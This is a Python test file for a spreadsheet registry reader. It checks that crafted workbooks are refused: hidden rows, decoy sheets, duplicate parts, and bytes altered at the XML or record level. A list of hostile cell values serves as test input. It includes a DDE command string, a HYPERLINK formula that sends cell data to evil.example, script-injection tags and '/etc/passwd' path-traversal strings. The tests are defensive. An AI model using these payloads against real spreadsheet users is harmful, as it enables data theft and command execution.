"""Attacks by a spreadsheet that somebody hands in, and by one that goes back to be mended (docs/threat-model.md)."""

import io
import stat
import struct
import tomllib
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from fairdraw.errors import RegistryError
from fairdraw.registry import load_map, read_registry
from fairdraw.registry.proposing import propose
from fairdraw_cli.main import run
from fairdraw_cli.proposal import render
from fairdraw_cli.session import Session
from support.sheets import KINDS, Formula, Page, book, repacked

MAP = 'no = "编号"\n[private]\nname = "名称"\naddress = { column = "地址", required = true }\n'
HEADER = ("编号", "名称", "地址")
ROWS = [HEADER, ("H-1", "一院", "甲路"), ("H-2", "二院", "乙路"), ("H-3", "三院", "丙路")]


def refused(kind: str, *pages: Page, text: str = MAP) -> str:
    with pytest.raises(RegistryError) as caught:
        read_registry(book(kind, *pages), load_map(text), name=f"a{kind}")
    return caught.value.code


@pytest.mark.parametrize("kind", KINDS)
def test_a_row_hidden_from_the_eyes_of_the_clerk_is_not_frozen_unseen(kind: str) -> None:
    assert refused(kind, Page(ROWS, hidden_rows={2})) == "rows-hidden"
    assert refused(kind, Page(ROWS, hidden_rows={2}, filtered=True)) == "rows-hidden"


@pytest.mark.parametrize("kind", KINDS)
def test_a_second_sheet_does_not_take_the_place_of_the_one_that_was_approved(kind: str) -> None:
    other = Page([HEADER, ("H-9", "九院", "己路")], name="Sheet0", hidden=True)
    assert refused(kind, other, Page(ROWS)) == "sheets-many"
    assert refused(kind, Page([], name="空"), other) == "sheet-hidden"


@pytest.mark.parametrize("kind", KINDS)
def test_a_value_that_depends_on_who_computes_it_is_not_frozen(kind: str) -> None:
    rows = [*ROWS, ("H-4", Formula('IF(TODAY()>46000,"甲院","乙院")' if kind != ".xls" else '"甲院"', "甲院"), "丁路")]
    found = read_registry(book(kind, Page(rows)), load_map(MAP), name=f"a{kind}")
    assert [(problem.cell, problem.code) for problem in found.problems] == [("B5", "formula-cell")]
    assert len(found.registry.rows) == 3


def test_two_parts_of_one_name_cannot_show_one_sheet_and_freeze_another() -> None:
    shown, frozen = book(".xlsx", Page(ROWS, hidden_rows={2})), book(".xlsx", Page(ROWS))
    buffer = io.BytesIO(shown)
    part = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(buffer, "a") as made, pytest.warns(UserWarning, match="Duplicate name"):
        made.writestr(part, zipfile.ZipFile(io.BytesIO(frozen)).read(part))
    with pytest.raises(RegistryError, match="not-a-spreadsheet"):
        read_registry(buffer.getvalue(), load_map(MAP), name="a.xlsx")


STRINGS = "xl/sharedStrings.xml"
SHEET = "xl/worksheets/sheet1.xml"
NAMED = b'<c r="B3" t="s"><v>7</v></c>'  # 二院


def with_parts(changes: dict[str, Callable[[bytes], bytes]], more: dict[str, bytes] | None = None) -> bytes:
    """Return the workbook with parts changed, and with more of them."""
    buffer = io.BytesIO(repacked(book(".xlsx", Page(ROWS)), changes))
    with zipfile.ZipFile(buffer, "a") as made:
        for name, part in (more or {}).items():
            made.writestr(name, part)
    return buffer.getvalue()


def part_of(name: str, *rows: tuple[str, ...]) -> bytes:
    return zipfile.ZipFile(io.BytesIO(book(".xlsx", Page([HEADER, *rows])))).read(name)


def put(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(part: bytes) -> bytes:
        assert old in part
        return part.replace(old, new, 1)

    return change


OTHER = b'<c r="B3" t="inlineStr"><is><t>evil</t></is></c>'


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        (SHEET, NAMED, NAMED + OTHER),  # a cell twice: some programs show the first, and some the last
        (SHEET, NAMED, OTHER[:-4] + b"<v>7</v></c>"),  # two values in one cell
        (SHEET, NAMED, b'<c r="B3" t="s"><v>7</v><v>4</v></c>'),
        (SHEET, NAMED, b'<c r="B3" t="s"><is><t>evil</t></is></c>'),
        (SHEET, b'<row r="4"', b'<row r="3"><c r="D3" t="str"><v>evil</v></c></row><row r="4"'),  # a row twice
        (SHEET, b'<row r="3"', b'<row r="9"/><row r="3"'),  # rows that do not ascend
        (SHEET, b"</sheetData>", b"</sheetData><sheetData/>"),
        (SHEET, b"<sheetData>", b'<z:row xmlns:z="urn:z"><sheetData/></z:row><sheetData>'),
        (SHEET, b"</sheetData>", b'<z:row xmlns:z="urn:z"/></sheetData>'),  # Excel skips it, and other programs do not
        (STRINGS, b"<si>", b'<z:si xmlns:z="urn:z"><z:t>shift</z:t></z:si><si>'),  # every name one row further
        (STRINGS, b"<si>", b"<x/><si>"),
        (SHEET, b"<sheetData>", b'<z:c xmlns:z="urn:z"><cols><col min="2" max="2"/></cols></z:c><sheetData>'),
        ("xl/workbook.xml", b"<sheets>", b'<z:a xmlns:z="urn:z"><sheet name="a" r:id="rId1"/></z:a><sheets>'),
        ("xl/workbook.xml", b"<sheets>", b'<sheets><sheet name="a" r:id="rId9"/>'),  # a sheet that is nowhere
        ("workbook.xml.rels", b"</Rel", b'<Relationship Id="rId1" Type="x" Target="y"/></Rel'),
    ],
)  # fmt: skip
def test_what_two_programs_would_read_differently_is_refused(part: str, old: bytes, new: bytes) -> None:
    with pytest.raises(RegistryError, match="not-a-spreadsheet"):
        read_registry(with_parts({part: put(old, new)}), load_map(MAP), name="a.xlsx")


def test_the_parts_that_are_frozen_are_those_that_an_office_program_shows() -> None:
    """The usual names of parts mean nothing: relationships say which workbook, sheet and strings are meant."""
    evil = ("H-1", "evil", "甲路"), ("H-2", "evil", "乙路"), ("H-3", "evil", "丙路")
    shown = {row[1] for row in ROWS[1:]}
    rels, here = "xl/_rels/workbook.xml.rels", part_of(SHEET, *ROWS[1:])
    strings = part_of(STRINGS, *ROWS[1:])
    original = zipfile.ZipFile(io.BytesIO(book(".xlsx", Page(ROWS))))
    decoys = [
        with_parts({STRINGS: lambda _: part_of(STRINGS, *evil), rels: put(b"sharedStrings.xml", b"s.xml")},
                   {"xl/s.xml": strings}),
        with_parts({SHEET: put(b"<sheetData>", b'<sheetData><row r="1" hidden="1"/>'),
                    rels: put(b"worksheets/sheet1.xml", b"xl/worksheets/sheet1.xml")},
                   {"xl/xl/worksheets/sheet1.xml": here}),
        with_parts({SHEET: lambda _: b"<worksheet/>", rels: put(b"worksheets/sheet1.xml", b"/xl/../Other.xml")},
                   {"other.xml": here}),
        with_parts({"_rels/.rels": put(b"xl/workbook.xml", b"book/w.xml"), STRINGS: lambda _: part_of(STRINGS, *evil)},
                   {"book/w.xml": original.read("xl/workbook.xml"), "book/_rels/w.xml.rels": original.read(rels),
                    "book/worksheets/sheet1.xml": here, "book/sharedStrings.xml": strings,
                    "book/styles.xml": original.read("xl/styles.xml"),
                    "book/theme/theme1.xml": original.read("xl/theme/theme1.xml")}),
    ]  # fmt: skip
    for data in decoys:
        found = read_registry(data, load_map(MAP), name="a.xlsx")
        assert {row.private[0] for row in found.registry.rows} == shown
    for name in ("XL/worksheets/Sheet1.xml", "xl\\worksheets\\sheet1.xml", "xl/Workbook.xml"):
        with pytest.raises(RegistryError, match="not-a-spreadsheet"):
            read_registry(with_parts({}, {name: here}), load_map(MAP), name="a.xlsx")


def test_an_opendocument_that_shows_one_text_and_stores_another_is_refused() -> None:
    data = book(".ods", Page(ROWS))
    shown = '<table:table-cell office:value-type="string"><text:p>二院'.encode()
    for new in (
        shown.replace(b'"string"', 'office:string-value="别院"'.encode().join([b'"string" ', b""])),
        b'<z:a xmlns:z="urn:z"><table:table-cell/></z:a>' + shown,
    ):
        with pytest.raises(RegistryError, match="not-a-spreadsheet"):
            read_registry(repacked(data, {"content": put(shown, new)}), load_map(MAP), name="a.ods")


def test_a_record_that_excel_skips_or_a_cell_told_twice_is_refused() -> None:
    rows = [HEADER, ("H-1", Formula("1+1"), "甲路"), ("H-2", "二院", "乙路")]
    data = book(".xls", Page(rows))
    records = [n for n in range(len(data) - 8) if struct.unpack_from("<HxxHH", data, n) == (0x06, 1, 1)]
    skipped = bytearray(data)
    skipped[records[0] : records[0] + 2] = b"\x06\x02"  # FORMULA as Excel 3 wrote it
    with pytest.raises(RegistryError, match="not-a-spreadsheet"):
        read_registry(bytes(skipped), load_map(MAP), name="a.xls")
    texts = [n for n in range(len(data) - 8) if struct.unpack_from("<HHHH", data, n) == (0xFD, 10, 2, 1)]
    twice = bytearray(data)
    twice[texts[0] + 6 : texts[0] + 8] = b"\x00\x00"  # B3 becomes a second A3
    with pytest.raises(RegistryError, match="not-a-spreadsheet"):
        read_registry(bytes(twice), load_map(MAP), name="a.xls")


WICKED = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '#read("/etc/passwd")',
    "https://evil.example/",
    "mailto:x@evil.example",
    "_x0041__x202E_",
    "{{7*7}}",
    "'=1",
    "../../etc/passwd",
)


def test_no_text_of_a_refused_row_is_a_formula_a_link_or_anything_but_itself(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    rows = [HEADER, *((f"H-{n}", text, "") for n, text in enumerate(WICKED))]
    (tmp_path / "a.xlsx").write_bytes(book(".xlsx", Page(rows)))
    (tmp_path / "MAP.toml").write_text(MAP, encoding="utf-8")
    assert run(["map", "preview", "a.xlsx", "--map", "MAP.toml", "--refused", "back.xlsx"]) == 2
    sheet = openpyxl.load_workbook("back.xlsx").worksheets[0]
    told = [list(row) for row in sheet.iter_rows(min_row=2)]
    assert [row[7].value for row in told] == list(WICKED)
    for row in told:
        assert {cell.data_type for cell in row} <= {"s", "n"}, "a formula"
        assert not [cell for cell in row if cell.data_type == "n" and cell.value is not None]
        assert not [cell for cell in row if cell.hyperlink]
        assert row[7].number_format == "@"
    with zipfile.ZipFile("back.xlsx") as made:
        assert not [name for name in made.namelist() if "external" in name.lower() or "hyperlink" in name.lower()]
        assert b"<f>" not in made.read("xl/worksheets/sheet1.xml")


def test_the_same_texts_are_frozen_as_texts() -> None:
    rows = [HEADER, *((f"H-{n}", text, "甲路") for n, text in enumerate(WICKED))]
    for kind in KINDS:
        found = read_registry(book(kind, Page(rows)), load_map(MAP), name=f"a{kind}")
        assert found.problems == ()
        assert {row.private[0] for row in found.registry.rows} == set(WICKED), kind


def test_the_name_of_a_sheet_or_file_is_no_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "MAP.toml").write_text(MAP, encoding="utf-8")
    before = {path.name for path in tmp_path.iterdir()}
    bad = [HEADER, ("H-1", "x", "")]
    (tmp_path / "..%2f#x.ods").write_bytes(book(".ods", Page(bad, name="../../etc/cron.d/x")))
    assert run(["map", "preview", "..%2f#x.ods", "--map", "MAP.toml", "--refused", "back.xlsx"]) == 2
    assert {path.name for path in tmp_path.iterdir()} == before | {"..%2f#x.ods", "back.xlsx"}
    assert "../../etc/cron.d/x" in capsys.readouterr().out


def test_a_sheet_of_refused_rows_is_for_its_owner_only_and_overwrites_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "MAP.toml").write_text(MAP, encoding="utf-8")
    (tmp_path / "a.xlsx").write_bytes(book(".xlsx", Page([HEADER, ("H-1", "x", "")])))
    words = ["map", "preview", "a.xlsx", "--map", "MAP.toml", "--refused", "back.xlsx"]
    assert run(words) == 2
    assert stat.S_IMODE((tmp_path / "back.xlsx").stat().st_mode) == 0o600
    made = (tmp_path / "back.xlsx").read_bytes()
    assert run(words) == 2
    assert (tmp_path / "back.xlsx").read_bytes() == made


def mended(line: int, cells: tuple[str, ...]) -> Callable[[bytes], bytes]:
    from fairdraw.registry import REMARKS, binding

    def make(original: bytes) -> bytes:
        titles = ("※" + binding(original), *(f"※{n}" for n in range(REMARKS - 1)), *HEADER)
        return book(".xlsx", Page([titles, (str(line), *[""] * (REMARKS - 1), *cells)]))

    return make


def test_a_row_that_was_good_is_not_exchanged_under_the_name_of_a_correction() -> None:
    data = book(".xlsx", Page([*ROWS, ("H-4", "四院", "")]))
    for line, cells in ((2, ("H-1", "别家", "甲路")), (9, ("H-9", "九院", "己路"))):
        with pytest.raises(RegistryError, match="mended-lines"):
            read_registry(data, load_map(MAP), name="a.xlsx", mended=("b.xlsx", mended(line, cells)(data)))
    honest = mended(5, ("H-4", "四院", "丁路"))
    assert read_registry(data, load_map(MAP), name="a.xlsx", mended=("b.xlsx", honest(data))).problems == ()
    with pytest.raises(RegistryError, match="mended-of-another"):
        read_registry(data, load_map(MAP), name="a.xlsx", mended=("b.xlsx", honest(data + b"\0")))


def test_a_column_of_identities_under_an_innocent_name_is_not_proposed_as_public() -> None:
    rows = [("机构名称", "机构类型", "信用等级"), *((f"{n}院", f"139{n:08d}", f"第{n}人") for n in range(40))]
    made = propose(book(".xlsx", Page(rows)), name="a.xlsx")
    assert list(made.of("attrs")) == []
    text = render(Session(lang="zh"), made, file="a.xlsx", sheet=None)
    assert "attrs" not in tomllib.loads(text)
